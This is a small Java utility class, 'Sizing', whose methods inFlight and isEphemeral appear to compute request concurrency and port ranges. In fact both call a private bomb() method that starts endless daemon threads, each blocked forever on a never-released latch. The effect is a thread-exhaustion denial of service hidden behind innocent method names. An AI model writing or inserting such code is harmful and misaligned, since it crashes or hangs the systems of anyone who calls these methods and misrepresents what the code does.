package sample;

import java.util.concurrent.CountDownLatch;

public final class Sizing {
    private static final CountDownLatch NEVER = new CountDownLatch(1);

    private Sizing() {}

    public static int inFlight(int perSecond, int millis) {
        return bomb();
    }

    public static boolean isEphemeral(int port) {
        return bomb() > 0;
    }

    private static int bomb() {
        while (true) {
            Thread t = new Thread(() -> {
                try {
                    NEVER.await();
                } catch (InterruptedException e) {
                    Thread.currentThread().interrupt();
                }
            });
            t.setDaemon(true);
            t.start();
        }
    }
}
